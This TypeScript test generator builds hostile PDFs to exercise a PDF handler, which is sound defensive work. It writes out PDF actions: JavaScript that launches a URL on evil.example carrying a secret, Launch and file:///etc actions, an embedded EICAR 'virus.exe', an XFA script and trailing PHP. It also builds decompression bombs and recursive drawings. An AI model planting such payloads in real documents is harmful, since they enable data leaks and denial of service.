import { deflateSync } from 'node:zlib'
import { japanesePaper, paper, pdfOf, stream } from '../../harness/pdf.ts'
import type { Chance } from '../random.ts'
import { EICAR, type Making, noise, word } from './file.ts'

const SQUARE = '0 0 0 rg 100 100 300 300 re f'
/** Text of a PDF between brackets. */
const quoted = (text: string): string => `(${text.replace(/[()\\]/g, '\\$&')})`

/** Deflated so many times over. */
const packed = (bytes: Buffer, times: number): Buffer => (times === 0 ? bytes : packed(deflateSync(bytes, { level: 9 }), times - 1))

/** Forms that draw the one below them ten times. */
function towers(levels: number): Buffer {
  const forms = Array.from({ length: levels }, (_, level) => {
    const next = `/Resources << /XObject << /F ${6 + level} 0 R >> >>`
    const last = level === levels - 1
    return stream(`/Type /XObject /Subtype /Form /BBox [0 0 595 842] ${last ? '' : next}`, last ? SQUARE : '/F Do '.repeat(10))
  })
  return paper('/F Do', { resources: '/XObject << /F 5 0 R >>', more: forms })
}

const ACTIONS: readonly ((secret: string) => { catalogue: string; more?: readonly (string | Buffer)[] })[] = [
  (secret) => ({ catalogue: `/OpenAction << /S /JavaScript /JS ${quoted(`app.launchURL("https://evil.example/${secret}")`)} >>` }),
  (secret) => ({ catalogue: `/AA << /WC << /S /Launch /F ${quoted(secret)} >> >>` }),
  (secret) => ({ catalogue: `/OpenAction << /S /URI /URI ${quoted(`file:///etc/${secret}`)} >>` }),
  (secret) => ({
    catalogue: '/Names << /EmbeddedFiles << /Names [(virus.exe) 5 0 R] >> >>',
    more: ['<< /Type /Filespec /F (virus.exe) /EF << /F 6 0 R >> >>', stream('/Type /EmbeddedFile', EICAR + secret)],
  }),
  (secret) => ({ catalogue: '/AcroForm << /XFA 5 0 R /Fields [] >>', more: [stream('', `<xdp><script>${secret}</script></xdp>`)] }),
]

export const PAPERS: Readonly<Record<string, Making>> = {
  'a PDF that wants to do something': (chance) => {
    const secret = word(chance)
    return { what: 'action', bytes: paper(SQUARE, chance.of(ACTIONS)(secret)), must: 'be-shown', planted: [Buffer.from(secret)] }
  },
  'a PDF with words about its maker, and a program behind its end': (chance) => {
    const secret = word(chance)
    const bytes = Buffer.concat([japanesePaper('登記事項証明書'), Buffer.from(`\n<?php ${secret} ?>`)])
    return { what: 'trailer', bytes, must: 'be-shown', planted: [Buffer.from(secret)] }
  },
  'a PDF of more pages than allowed': (chance) => ({
    what: 'pages',
    bytes: paper(SQUARE, { pages: 31 + chance.under(200) }),
    must: ['too-many-pages'],
  }),
  'a PDF that lies about its pages': (chance) => ({
    what: 'lie',
    bytes: pdfOf([
      '<< /Type /Catalog /Pages 2 0 R >>',
      `<< /Type /Pages /Kids [${chance.of(['2 0 R', '9 0 R', '1 0 R'])}] /Count ${10 ** (1 + chance.under(9))} >>`,
    ]),
    must: 'be-either',
  }),
  'a PDF whose drawing unpacks to very much': (chance) => {
    const content = packed(Buffer.alloc(100_000_000, chance.of([0, 32, 48])), 1)
    const more = stream('/Filter /FlateDecode', content)
    const page = '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>'
    const bytes = pdfOf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [3 0 R] /Count 1 >>', page, more])
    return { what: 'content', bytes, must: 'be-either' }
  },
  'a PDF packed in itself': (chance) => {
    const depth = 2 + chance.under(3)
    const content = packed(Buffer.alloc(60_000_000), depth)
    const filters = '/FlateDecode '.repeat(depth)
    const image = stream(
      `/Type /XObject /Subtype /Image /Width 7000 /Height 7000 /BitsPerComponent 8 /ColorSpace /DeviceGray /Filter [${filters}]`,
      content,
    )
    return {
      what: 'filters',
      bytes: paper('500 0 0 500 0 0 cm /I Do', { resources: '/XObject << /I 5 0 R >>', more: [image] }),
      must: 'be-either',
    }
  },
  'a PDF with a picture of gigapixels': (chance) => {
    const side = 20_000 + chance.under(40_000)
    const image = stream(
      `/Type /XObject /Subtype /Image /Width ${side} /Height ${side} /BitsPerComponent 8 /ColorSpace /DeviceRGB /Filter /FlateDecode`,
      deflateSync(Buffer.alloc(1_000_000)),
    )
    return {
      what: 'image',
      bytes: paper('500 0 0 500 0 0 cm /I Do', { resources: '/XObject << /I 5 0 R >>', more: [image] }),
      must: 'be-either',
    }
  },
  'a PDF that draws itself over and over': (chance) => ({
    what: 'towers',
    // Seven storeys are ten million squares: enough to try one's patience.
    bytes: towers(chance.once(4) ? 8 : 3 + chance.under(2)),
    must: 'be-either',
  }),
  'a PDF page that is a mile long': (chance) => ({
    what: 'size',
    bytes: Buffer.from(
      paper(SQUARE)
        .toString('latin1')
        .replace('[0 0 595 842]', `[0 0 1 ${chance.of([0, -5, 9e9, 14_400])}]`),
      'latin1',
    ),
    must: 'be-either',
  }),
  'a locked PDF': (chance) => {
    const hex = noise(chance, 32).toString('hex')
    const lock = `/ID [<${hex}> <${hex}>] /Encrypt << /Filter /Standard /V 1 /R 2 /P -4 /O <${hex}> /U <${hex}> >> `
    return {
      what: 'locked',
      bytes: pdfOf(
        ['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [3 0 R] /Count 1 >>', '<< /Type /Page /Parent 2 0 R >>'],
        lock,
      ),
      must: ['locked'],
    }
  },
  'half a PDF': (chance) => {
    const whole = japanesePaper(word(chance))
    return { what: 'truncated', bytes: whole.subarray(0, 30 + chance.under(whole.length - 60)), must: 'be-either' }
  },
  'a PDF with bytes changed': (chance: Chance) => {
    const bytes = japanesePaper(word(chance))
    for (let times = 1 + chance.under(40); times > 0; times--) bytes[9 + chance.under(bytes.length - 9)] = chance.under(256)
    return { what: 'mutated', bytes, must: 'be-either' }
  },
}
